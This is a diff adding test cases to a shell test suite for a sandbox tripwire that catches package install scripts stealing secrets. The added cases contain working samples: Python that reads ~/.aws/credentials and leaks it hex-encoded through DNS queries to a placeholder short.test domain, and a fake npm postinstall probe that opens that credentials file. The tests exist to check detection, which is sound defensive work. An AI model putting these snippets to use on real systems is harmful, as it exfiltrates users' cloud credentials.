@@ -377,6 +377,40 @@ if trip_alerts | grep -q '^tunnel.test|.*base32-encoded in the DNS names under t
 else
 	fail_case "tripwire: base32 in short labels is found" "$(trip_alerts)"
 fi
+# Seven-character labels, all in one query: found within the name.
+exfil_short='python3 - <<"PY"
+import os, socket
+h = open(os.path.expanduser("~/.aws/credentials"), "rb").read().hex()[60:130]
+try:
+    socket.gethostbyname(".".join(h[i:i + 7] for i in range(0, len(h), 7)) + ".short.test")
+except OSError:
+    pass
+PY
+	exit 0'
+run_case exfil-short --profile node -- sh -c "$exfil_short"
+if trip_alerts | grep -q '^short.test|.*hex-encoded in the DNS names under short.test'; then
+	ok "tripwire: a token in 7-character labels of one name is found"
+else
+	fail_case "tripwire: a token in short labels of one name is found" "$(trip_alerts)"
+fi
+# An O_NONBLOCK probe returns at once (the lease refuses it): unattributed, but the
+# package scripts running then are named as candidates.
+probe='env npm_package_name=probe-pkg npm_package_version=0.0.1 npm_lifecycle_event=postinstall \
+	python3 -c "
+import os, time
+try:
+    os.open(os.path.expanduser(\"~/.aws/credentials\"), os.O_RDONLY | os.O_NONBLOCK)
+except BlockingIOError:
+    print(\"refused\")
+time.sleep(1)"'
+run_case nonblock --tripwires on --net none -- sh -c "$probe"
+if grep -q refused "$C/out" &&
+	trip_alerts | grep -q '^~/.aws/credentials|.*unattributed; package scripts running then: .*probe-pkg@0.0.1'; then
+	ok "tripwire: an O_NONBLOCK probe is an alert; unattributed, it names the package scripts running then"
+else
+	fail_case "tripwire: an O_NONBLOCK probe names the scripts running then" "$(trip_alerts)" \
+		"$(cat "$C/out")"
+fi
 # What the matcher cannot see (reversed, XOR): the read's alert is still there.
 exfil_blind='python3 - <<"PY"
 import os, socket
